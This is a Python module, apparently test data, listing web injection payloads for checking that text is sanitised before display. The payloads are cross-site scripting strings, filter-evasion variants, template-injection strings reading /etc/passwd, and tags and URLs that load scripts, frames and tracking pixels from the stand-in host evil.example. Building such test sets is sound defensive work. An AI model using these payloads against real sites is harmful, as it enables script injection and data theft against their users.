"""Texts that would do something in a page that lets them: scripts, markup, styles, links, templates."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p></article></script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='window.pwned=1'>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerenter=alert(1) style='position:fixed;inset:0'>x</div>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=alert(1)>x</div>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus tabindex=1 x='",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "` onclick=alert(1) `",
    '" autofocus onfocus=alert(1) data-force="1',
]
FRAMES = [
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input type=submit></form>",
    "<img src=https://evil.example/pixel.png>",
    "<video poster=https://evil.example/p.png></video>",
    "<portal src=https://evil.example></portal>",
]
STYLES = [
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>cover</p>",
    '" style="position:fixed;inset:0;background:red',
    "<font size=700>x</font>",
    "</style><style>body{color:red!important}",
]
LINKS = [
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java\nscript:alert(1)'>click</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>click</a>",
    '[x]: javascript:alert(1) "x"',
    "https://evil.example/auto-link",
]
TEMPLATES = [
    "${alert(1)}",
    "${value.constructor.constructor('alert(1)')()}",
    "`+alert(1)+`",
    "`}${window.pwned=1}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{{value}}} {{#each this}}{{@key}}{{/each}}",
    "{% include '/etc/passwd' %}{{ 7*7 }}{{ ''.__class__ }}",
    "@children",
    "[1]<sup>[2]</sup>[99]",
]
TEXTS = [
    "\u202etxet desrever\u202c",
    "\u2066isolated\u2069\u200f\u200e",
    "zero\u200bwidth\u2060\u200d\ufeff",
    "مقالة عن الذاكرة <b>عربية</b>",
    "\u05de\u05d0\u05de\u05e8 \u202b\u05e2\u05d1\u05e8\u05d9\u202c <i>x</i>",
    "Z\u0335\u0321a\u0334l\u0338g\u0337o" + "\u0300\u0301\u0302" * 12,
    "lone surrogate \ud800 and \udfff",
    "controls \x07\x1b[31mred\x1b[0m\x7f",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *FRAMES, *STYLES, *LINKS, *TEMPLATES, *TEXTS]

TEXTS = [payload for payload in PAYLOADS if "\ud800" not in payload]
"""Those that can be typed: half of a character cannot."""

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "http://evil.example/\u202egpj.exe",
    "blob:https://evil.example/x",
]
